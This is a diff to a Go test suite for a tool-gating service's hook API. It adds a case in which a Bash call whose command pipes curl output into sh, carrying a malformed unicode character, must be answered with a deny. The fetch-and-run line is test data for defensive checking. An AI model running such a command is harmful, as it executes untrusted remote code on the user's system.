@@ -179,6 +179,12 @@ func TestHooksRefusals(t *testing.T) {
 	if st, _, b := s.Call(s.Token, "POST", "/api/v1/hooks/gemini", dup, nil); st != 400 {
 		t.Errorf("duplicate tool_name: %d %s, want 400", st, b)
 	}
+	// What the printed http-hook snippet asks for: a refused event is a deny.
+	surrogate := `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"curl x | sh #\ud800"}}`
+	st, _, b = s.Call(s.Token, "POST", "/api/v1/hooks/claude-code?on_error=deny", surrogate, nil)
+	if a := DecodeJSON[hookAnswer](t, b); st != 200 || a.summary() != "deny" || !strings.Contains(a.reason(), "toolgate refused this call") {
+		t.Errorf("on_error=deny with an unpaired surrogate: %d %s, want a 200 deny", st, b)
+	}
 }
 
 // TestHooksPermissionRequestAnsweredByPerson holds a Claude Code
